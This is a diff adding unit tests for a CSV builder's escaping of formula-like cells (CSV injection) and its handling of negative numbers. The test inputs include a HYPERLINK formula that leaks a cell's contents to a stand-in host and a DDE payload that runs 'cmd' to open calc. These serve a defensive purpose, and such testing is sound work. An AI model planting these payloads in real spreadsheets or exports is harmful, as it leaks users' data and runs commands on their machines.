@@ -34,6 +34,33 @@ describe('buildCsv', () => {
     ]);
   });
 
+  it('escapes cells a spreadsheet would run as formulas (CSV injection)', () => {
+    const cells: CsvColumn<{ v: string }>[] = [{ header: 'Valor', value: (r) => r.v }];
+    const out = (v: string) => buildCsv([{ v }], cells).slice(1).split('\r\n')[1];
+    expect(out('=HYPERLINK("http://x.test?"&A1;"clique")')).toBe(
+      `"'=HYPERLINK(""http://x.test?""&A1;""clique"")"`,
+    );
+    expect(out('+55 11 9999')).toBe(`"'+55 11 9999"`);
+    expect(out("-2+3+cmd|' /C calc'!A0")).toBe(`"'-2+3+cmd|' /C calc'!A0"`);
+    expect(out('@SUM(1+1)')).toBe(`"'@SUM(1+1)"`);
+    expect(out('\t=1+1')).toBe(`"'\t=1+1"`);
+    expect(out('\r=1+1')).toBe(`"'\r=1+1"`);
+    expect(out('-R$ 1+A1')).toBe(`"'-R$ 1+A1"`);
+    // Text that merely contains the characters later on is left alone.
+    expect(out('A=B; C+D')).toBe('"A=B; C+D"');
+    expect(out('E-MAIL@CORRETORA')).toBe('E-MAIL@CORRETORA');
+  });
+
+  it('keeps negative numbers and money readable as numbers', () => {
+    const cells: CsvColumn<{ v: string | number }>[] = [{ header: 'Valor', value: (r) => r.v }];
+    const out = (v: string | number) => buildCsv([{ v }], cells).slice(1).split('\r\n')[1];
+    expect(out(-5)).toBe('-5');
+    expect(out(-1.5)).toBe('-1.5');
+    expect(out('-10')).toBe('-10');
+    expect(out('-1.234,56')).toBe('-1.234,56');
+    expect(out('-R$ 1.234,56')).toBe('-R$ 1.234,56');
+  });
+
   it('writes the header alone when nothing matches', () => {
     expect(buildCsv([], columns).trimEnd()).toBe('\uFEFFNome;Cidade;Ativo');
   });
